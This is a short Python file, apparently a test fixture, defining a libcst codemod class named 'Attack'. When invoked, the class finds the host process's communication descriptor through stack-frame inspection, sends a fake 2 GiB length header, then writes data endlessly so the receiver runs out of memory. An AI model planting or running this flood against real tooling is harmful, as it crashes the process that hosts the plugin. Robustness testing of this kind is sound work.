"""Say so much that whoever keeps it runs out of memory."""

import os
import struct
import sys

from libcst.codemod import VisitorBasedCodemodCommand


def descriptor():
    frame = sys._getframe()
    while "descriptor" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["descriptor"]


def say():
    channel = descriptor()
    os.write(channel, struct.pack(">II", 1 << 31, 1 << 31))
    while True:
        os.write(channel, b" " * (1 << 20))


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Flood."

    def transform_module_impl(self, tree):
        say()
        return tree
